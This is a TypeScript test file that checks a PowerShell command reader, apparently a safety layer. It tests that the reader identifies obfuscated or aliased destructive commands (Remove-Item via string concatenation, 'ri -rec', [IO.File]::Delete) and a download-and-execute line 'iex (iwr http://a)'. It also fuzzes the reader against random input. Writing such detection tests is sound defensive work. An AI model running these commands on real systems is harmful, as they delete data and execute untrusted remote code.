import test from 'ava';
import { fc, runs } from '../../../helpers/properties.js';
import { windowsText } from '../../../helpers/windows-texts.js';
import { readPowerShell } from '../../../../src/platform/shell/powershell/read-powershell.js';

const RUNS = Number(process.env['FUZZ_RUNS'] ?? 20_000);

/** A text, and the programs that it runs, with the doubts behind. */
const CASES: readonly (readonly [string, string])[] = [
  ["&('Remove-' + 'Item') C:/x", 'remove-item'],
  ['ri C:/x -rec', 'remove-item'],
  ['iex "Remove-Item x"', 'remove-item'],
  ['Get-Date # Remove-Item x', 'get-date'],
  ["[IO.File]::Delete('x')", '[io.file]::delete'],
  ['iex (iwr http://a)', 'invoke-webrequest unknown_script'],
  ['1..2 | % { Stop-Service x }', 'stop-service'],
];

for (const [text, said] of CASES) {
  test(`${text} runs “${said}”`, (t) => {
    const { executions, doubts } = readPowerShell(text);
    t.is([...executions.map(({ program }) => program ?? ''), ...doubts.map(({ code }) => code)].join(' '), said);
  });
}

test('No text makes the reader throw', (t) => {
  fc.assert(
    fc.property(windowsText, (given) => void readPowerShell(given)),
    { numRuns: runs(RUNS) },
  );
  t.pass();
});
